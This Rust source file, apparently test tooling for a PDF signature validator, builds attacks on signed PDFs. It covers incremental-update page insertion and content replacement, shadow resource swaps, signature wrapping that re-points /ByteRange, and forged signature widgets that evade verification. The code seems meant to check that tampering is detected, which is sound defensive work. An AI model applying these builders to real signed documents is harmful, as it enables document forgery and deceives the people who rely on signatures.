//! Builders for the attacks of the PDF-Insecurity research (incremental saving, shadow,
//! signature wrapping) and for benign later revisions (form filling, new fields), applied to
//! signed PDFs as an attacker would: by appending an incremental update or editing bytes.

use pades::pdf::update::Update;
use pades::pdf::{Dict, Document, ObjRef, Object};

/// Append an incremental update made by `edit` to `data`.
pub fn append(data: &[u8], edit: impl FnOnce(&Document<'_>, &mut Update<'_, '_>)) -> Vec<u8> {
    let doc = Document::open(data).expect("attack target opens");
    let mut update = Update::new(&doc);
    edit(&doc, &mut update);
    let tail = update.finish([7; 16]).expect("update");
    let mut out = data.to_vec();
    out.extend_from_slice(&tail.bytes);
    out
}

/// The catalog's reference and dictionary.
pub fn catalog(doc: &Document<'_>) -> (ObjRef, Dict) {
    let r = doc
        .trailer()
        .get(b"Root")
        .and_then(Object::as_ref)
        .expect("root ref");
    (
        r,
        doc.resolve_dict(&Object::Reference(r), "catalog")
            .expect("catalog"),
    )
}

/// The first page's reference and dictionary (flat page trees, as in the corpus).
pub fn first_page(doc: &Document<'_>) -> (ObjRef, Dict) {
    let (_, cat) = catalog(doc);
    let pages = doc
        .resolve_dict(cat.get(b"Pages").expect("pages"), "pages")
        .expect("pages");
    let kids = match doc.deref(pages.get(b"Kids").expect("kids")).expect("kids") {
        Object::Array(a) => a,
        other => panic!("kids: {other:?}"),
    };
    let r = kids[0].as_ref().expect("kid ref");
    (r, doc.resolve_dict(&kids[0], "page").expect("page"))
}

fn stream(body: &str) -> Vec<u8> {
    format!("<</Length {}>>stream\n{body}\nendstream", body.len()).into_bytes()
}

/// Incremental saving attack: a new page.
pub fn add_page(data: &[u8]) -> Vec<u8> {
    append(data, |doc, u| {
        let (_, cat) = catalog(doc);
        let pages_ref = cat
            .get(b"Pages")
            .and_then(Object::as_ref)
            .expect("pages ref");
        let mut pages = doc
            .resolve_dict(&Object::Reference(pages_ref), "pages")
            .expect("pages");
        let content = u.allocate();
        let page = u.allocate();
        u.put(
            content,
            stream("BT /F1 24 Tf 72 700 Td (Lampiran palsu) Tj ET"),
        );
        let mut p = Dict::new();
        p.set(b"Type", Object::Name(b"Page".to_vec()));
        p.set(b"Parent", Object::Reference(pages_ref));
        p.set(
            b"MediaBox",
            Object::Array(vec![
                Object::Integer(0),
                Object::Integer(0),
                Object::Integer(595),
                Object::Integer(842),
            ]),
        );
        p.set(b"Contents", Object::Reference(content));
        u.put_object(page, &Object::Dict(p));
        let mut kids = match doc.deref(pages.get(b"Kids").expect("kids")).expect("kids") {
            Object::Array(a) => a,
            other => panic!("{other:?}"),
        };
        kids.push(Object::Reference(page));
        let count = pages.get(b"Count").and_then(Object::as_i64).unwrap_or(0);
        pages.set(b"Kids", Object::Array(kids));
        pages.set(b"Count", Object::Integer(count + 1));
        u.put_object(pages_ref, &Object::Dict(pages));
    })
}

/// Shadow/incremental attack: page 1's content stream replaced under the same object number
/// (or, if the page has a content array, the page pointed at a new stream).
pub fn replace_content(data: &[u8]) -> Vec<u8> {
    append(data, |doc, u| {
        let (page_ref, mut page) = first_page(doc);
        let body = stream("BT /F1 24 Tf 72 700 Td (Isi diganti) Tj ET");
        match page.get(b"Contents") {
            Some(Object::Reference(r)) if matches!(doc.resolve(*r), Ok(Object::Stream(_))) => {
                u.put(*r, body)
            }
            _ => {
                let s = u.allocate();
                u.put(s, body);
                page.set(b"Contents", Object::Reference(s));
                u.put_object(page_ref, &Object::Dict(page));
            }
        }
    })
}

/// An annotation painted over the text of page 1.
pub fn add_annotation(data: &[u8]) -> Vec<u8> {
    append(data, |doc, u| {
        let (page_ref, page) = first_page(doc);
        let annot = u.allocate();
        let mut a = Dict::new();
        a.set(b"Type", Object::Name(b"Annot".to_vec()));
        a.set(b"Subtype", Object::Name(b"FreeText".to_vec()));
        a.set(
            b"Rect",
            Object::Array(vec![
                Object::Integer(50),
                Object::Integer(600),
                Object::Integer(550),
                Object::Integer(800),
            ]),
        );
        a.set(b"Contents", Object::String(b"DIBATALKAN".to_vec()));
        a.set(b"DA", Object::String(b"/Helv 36 Tf 1 0 0 rg".to_vec()));
        u.put_object(annot, &Object::Dict(a));
        add_to_annots(doc, u, page_ref, page, annot);
    })
}

fn add_to_annots(
    doc: &Document<'_>,
    u: &mut Update<'_, '_>,
    page_ref: ObjRef,
    mut page: Dict,
    item: ObjRef,
) {
    match page.get(b"Annots").cloned() {
        Some(Object::Reference(r)) => {
            let mut arr = match doc.resolve(r).expect("annots") {
                Object::Array(a) => a,
                _ => Vec::new(),
            };
            arr.push(Object::Reference(item));
            u.put_object(r, &Object::Array(arr));
        }
        other => {
            let mut arr = match other {
                Some(Object::Array(a)) => a,
                _ => Vec::new(),
            };
            arr.push(Object::Reference(item));
            page.set(b"Annots", Object::Array(arr));
            u.put_object(page_ref, &Object::Dict(page));
        }
    }
}

/// The catalog changed: a document-open action.
pub fn change_catalog(data: &[u8]) -> Vec<u8> {
    append(data, |doc, u| {
        let (r, mut cat) = catalog(doc);
        cat.set(b"PageMode", Object::Name(b"FullScreen".to_vec()));
        let (page_ref, _) = first_page(doc);
        cat.set(
            b"OpenAction",
            Object::Array(vec![
                Object::Reference(page_ref),
                Object::Name(b"Fit".to_vec()),
            ]),
        );
        u.put_object(r, &Object::Dict(cat));
    })
}

/// Page 1's resources replaced (another font under the same name: a shadow "replace").
pub fn change_resources(data: &[u8]) -> Vec<u8> {
    append(data, |doc, u| {
        let (page_ref, mut page) = first_page(doc);
        let font = u.allocate();
        u.put(
            font,
            b"<</Type/Font/Subtype/Type1/BaseFont/Courier>>".to_vec(),
        );
        let mut fonts = Dict::new();
        fonts.set(b"F1", Object::Reference(font));
        let mut res = Dict::new();
        res.set(b"Font", Object::Dict(fonts));
        page.set(b"Resources", Object::Dict(res));
        u.put_object(page_ref, &Object::Dict(page));
    })
}

/// The text field `name` given the value `value` (its widget is the field itself).
pub fn set_field_value(data: &[u8], name: &str, value: &str) -> Vec<u8> {
    append(data, |doc, u| {
        let (_, cat) = catalog(doc);
        let form = doc
            .resolve_dict(cat.get(b"AcroForm").expect("form"), "form")
            .expect("form");
        let fields = match doc
            .deref(form.get(b"Fields").expect("fields"))
            .expect("fields")
        {
            Object::Array(a) => a,
            other => panic!("{other:?}"),
        };
        for f in fields {
            let r = f.as_ref().expect("field ref");
            let mut d = doc.resolve_dict(&f, "field").expect("field");
            if d.get(b"T").and_then(Object::as_string) == Some(name.as_bytes()) {
                d.set(b"V", Object::String(value.as_bytes().to_vec()));
                u.put_object(r, &Object::Dict(d));
                return;
            }
        }
        panic!("no field {name}");
    })
}

/// Add, unsigned, an empty text field `text` and an empty signature field `sig` whose `/Lock`
/// (FieldMDP) includes the fields `locked`; both with zero-size widgets on page 1.
pub fn add_fields_with_lock(data: &[u8], text: &str, sig: &str, locked: &[&str]) -> Vec<u8> {
    append(data, |doc, u| {
        let (root, mut cat) = catalog(doc);
        let (page_ref, page) = first_page(doc);
        let t = u.allocate();
        let s = u.allocate();
        let zero = Object::Array(vec![Object::Integer(0); 4]);
        let mut td = Dict::new();
        td.set(b"Type", Object::Name(b"Annot".to_vec()));
        td.set(b"Subtype", Object::Name(b"Widget".to_vec()));
        td.set(b"FT", Object::Name(b"Tx".to_vec()));
        td.set(b"T", Object::String(text.as_bytes().to_vec()));
        td.set(b"Rect", zero.clone());
        td.set(b"P", Object::Reference(page_ref));
        u.put_object(t, &Object::Dict(td));
        let mut lock = Dict::new();
        lock.set(b"Type", Object::Name(b"SigFieldLock".to_vec()));
        lock.set(b"Action", Object::Name(b"Include".to_vec()));
        lock.set(
            b"Fields",
            Object::Array(
                locked
                    .iter()
                    .map(|n| Object::String(n.as_bytes().to_vec()))
                    .collect(),
            ),
        );
        let mut sd = Dict::new();
        sd.set(b"Type", Object::Name(b"Annot".to_vec()));
        sd.set(b"Subtype", Object::Name(b"Widget".to_vec()));
        sd.set(b"FT", Object::Name(b"Sig".to_vec()));
        sd.set(b"T", Object::String(sig.as_bytes().to_vec()));
        sd.set(b"Rect", zero);
        sd.set(b"P", Object::Reference(page_ref));
        sd.set(b"Lock", Object::Dict(lock));
        u.put_object(s, &Object::Dict(sd));
        // Widgets on the page, fields in the (direct or indirect) form.
        let mut page2 = page.clone();
        let mut annots = match page.get(b"Annots").map(|a| doc.deref(a)) {
            Some(Ok(Object::Array(a))) => a,
            _ => Vec::new(),
        };
        annots.extend([Object::Reference(t), Object::Reference(s)]);
        page2.set(b"Annots", Object::Array(annots));
        u.put_object(page_ref, &Object::Dict(page2));
        let form_ref = cat.get(b"AcroForm").and_then(Object::as_ref);
        let mut form = cat
            .get(b"AcroForm")
            .and_then(|f| doc.resolve_dict(f, "form").ok())
            .unwrap_or_default();
        let mut fields = match form.get(b"Fields").map(|f| doc.deref(f)) {
            Some(Ok(Object::Array(a))) => a,
            _ => Vec::new(),
        };
        fields.extend([Object::Reference(t), Object::Reference(s)]);
        form.set(b"Fields", Object::Array(fields));
        match form_ref {
            Some(r) => u.put_object(r, &Object::Dict(form)),
            None => {
                cat.set(b"AcroForm", Object::Dict(form));
                u.put_object(root, &Object::Dict(cat));
            }
        }
    })
}

/// Signature wrapping (USF/SWA): insert bytes after the signed `/Contents`, move the second
/// signed part behind them, and re-point the signature dictionary (in a new revision that also
/// re-points every moved object) at a `/ByteRange` whose gap now holds the original `/Contents`
/// *and* the inserted bytes. Both signed parts hash as before.
pub fn wrap_signature(data: &[u8], sig_ref: ObjRef, byte_range: [usize; 4]) -> Vec<u8> {
    let [_, a, b, d] = byte_range;
    let inserted = b"\n9999 0 obj\n(Disetujui tanpa syarat)\nendobj\n".to_vec();
    let shift = inserted.len();
    let mut moved = data[..b].to_vec();
    moved.extend_from_slice(&inserted);
    moved.extend_from_slice(&data[b..b + d]);
    // Re-list every object of the file at its shifted offset if it lay after `b`.
    let doc = Document::open(data).expect("opens");
    let mut objects = Vec::new();
    for n in 0..doc.max_object_number() {
        if let Some(pades::pdf::XrefEntry::InFile { offset, gen }) = doc.entry(n) {
            let off = if offset >= b { offset + shift } else { offset };
            objects.push((n, gen, off));
        }
    }
    let sig = doc
        .resolve_dict(&Object::Reference(sig_ref), "sig")
        .expect("sig");
    let mut new_sig = sig.clone();
    new_sig.set(
        b"ByteRange",
        Object::Array(vec![
            Object::Integer(0),
            Object::Integer(a as i64),
            Object::Integer((b + shift) as i64),
            Object::Integer(d as i64),
        ]),
    );
    let mut out = moved;
    if !out.ends_with(b"\n") {
        out.push(b'\n');
    }
    let sig_at = out.len();
    out.extend_from_slice(format!("{} {} obj\n", sig_ref.num, sig_ref.gen).as_bytes());
    new_sig.write(&mut out);
    out.extend_from_slice(b"\nendobj\n");
    let xref_at = out.len();
    out.extend_from_slice(b"xref\n");
    for (n, gen, off) in &objects {
        let off = if *n == sig_ref.num { sig_at } else { *off };
        out.extend_from_slice(format!("{n} 1\n{off:010} {gen:05} n\r\n").as_bytes());
    }
    let root = doc
        .trailer()
        .get(b"Root")
        .and_then(Object::as_ref)
        .expect("root");
    out.extend_from_slice(
        format!(
            "trailer\n<</Size {}/Root {} {} R/Prev {}>>\nstartxref\n{xref_at}\n%%EOF\n",
            doc.max_object_number(),
            root.num,
            root.gen,
            doc.startxref() + shift
        )
        .as_bytes(),
    );
    out
}

/// How a forged later "signature" field keeps its value from being checked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FakeSeal {
    /// A terminal signature field whose value is not a valid signature.
    Unsigned,
    /// A signature field with a text-field kid: not a terminal field, so never verified.
    WithKid,
    /// No `/FT`, a `/Parent` that is the existing signature field: not a signature field of
    /// the form's tree.
    UnderExisting,
    /// Its value is the existing signature's dictionary.
    ReusedValue,
    /// An empty signature field whose `/Rect` has no area but whose appearance draws (which
    /// Ghostscript shows, unscaled, at the rectangle's corner).
    ZeroRect,
}

/// A later revision posing as a visible seal: a signature widget over the whole of page 1
/// whose appearance paints the page white with forged text, listed in the page's `/Annots`
/// and the form's `/Fields`, with a value that is never a valid signature (`how`).
pub fn fake_seal(data: &[u8], how: FakeSeal) -> Vec<u8> {
    append(data, |doc, u| {
        let (_, cat) = catalog(doc);
        let (page_ref, page) = first_page(doc);
        let form_ref = cat
            .get(b"AcroForm")
            .and_then(Object::as_ref)
            .expect("an indirect /AcroForm");
        let mut form = doc
            .resolve_dict(&Object::Reference(form_ref), "form")
            .expect("form");
        let fields = match doc
            .deref(form.get(b"Fields").expect("fields"))
            .expect("fields")
        {
            Object::Array(a) => a,
            other => panic!("fields: {other:?}"),
        };
        let existing = fields[0].as_ref().expect("a field reference");
        let existing_value = doc
            .resolve_dict(&Object::Reference(existing), "field")
            .expect("field")
            .get(b"V")
            .and_then(Object::as_ref)
            .expect("the signed field's value");
        let (widget, ap, value, kid) = (u.allocate(), u.allocate(), u.allocate(), u.allocate());
        let body = "1 1 1 rg 0 0 595 842 re f 0 0 0 rg BT /F1 28 Tf 60 700 Td (SURAT INI DIBATALKAN) Tj ET";
        u.put(
            ap,
            format!(
                "<</Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/Length {}>>stream\n{body}\nendstream",
                body.len()
            )
            .into_bytes(),
        );
        u.put(
            value,
            b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 0 0 0]/Contents<00>>>".to_vec(),
        );
        let v = if how == FakeSeal::ReusedValue {
            existing_value
        } else {
            value
        };
        let mut w = if how == FakeSeal::ZeroRect {
            format!(
                "<</Type/Annot/Subtype/Widget/T(S2)/P {page_ref}/Rect[0 0 0 0]/F 4/AP<</N {ap}>>"
            )
        } else {
            format!(
                "<</Type/Annot/Subtype/Widget/T(S2)/V {v}/P {page_ref}/Rect[0 0 595 842]/F 4/AP<</N {ap}>>"
            )
        };
        match how {
            FakeSeal::UnderExisting => w.push_str(&format!("/Parent {existing}")),
            FakeSeal::WithKid => {
                w.push_str(&format!("/FT/Sig/Kids[{kid}]"));
                u.put(kid, format!("<</T(x)/FT/Tx/Parent {widget}>>").into_bytes());
            }
            _ => w.push_str("/FT/Sig"),
        }
        w.push_str(">>");
        u.put(widget, w.into_bytes());
        let mut fields = fields.clone();
        fields.push(Object::Reference(widget));
        form.set(b"Fields", Object::Array(fields));
        u.put_object(form_ref, &Object::Dict(form));
        add_to_annots(doc, u, page_ref, page, widget);
    })
}
